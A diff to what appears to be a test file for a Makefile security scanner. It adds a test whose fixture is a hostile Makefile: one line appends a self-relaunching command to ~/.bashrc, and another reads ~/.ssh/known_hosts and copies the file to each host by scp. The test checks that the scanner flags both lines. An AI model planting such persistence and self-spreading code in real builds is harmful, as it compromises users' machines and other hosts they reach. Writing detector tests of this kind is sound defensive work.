@@ -216,3 +216,19 @@ def test_crafted_makefiles_stay_bounded_and_say_so():
     # a define with no endef runs to the end of the file, as in make (which stops there)
     art, [body], errors = _parts("define D\n\techo d\n\tcurl -s x\n")
     assert body.origin[-1] == "define D at line 1 (recipe lines)" and body.text == "echo d\ncurl -s x\n"
+
+
+def test_file_function_writes_and_reads_like_the_shell_would(tmp_path):
+    text = ("SELF := $(abspath $(lastword $(MAKEFILE_LIST)))\n"
+            "$(file >>$(HOME)/.bashrc,make -s -f $(SELF) watch &)\n"
+            "HOSTS := $(file <$(HOME)/.ssh/known_hosts)\n"
+            "all:\n"
+            "\techo $(file >list.txt,a b) done\n"
+            "\tfor h in $(HOSTS); do scp $(SELF) $$h:/tmp/m; done\n")
+    art, parts, _errors = _parts(text)
+    assert [p.text for p in parts] == [
+        # inside a command it expands to nothing (make still writes the file)
+        "echo  done\nfor h in $(cat ${HOME}/.ssh/known_hosts); do scp \"$0\" $h:/tmp/m; done\n",
+        "cat >> ${HOME}/.bashrc <<'MAKE_FILE_EOF'\nmake -s -f \"$0\" watch &\nMAKE_FILE_EOF\n\n"]
+    result = _scan(tmp_path, text)
+    assert sorted((f.rule_id, f.location.line) for f in result.findings) == [("SR204", 6), ("SR401", 2)]
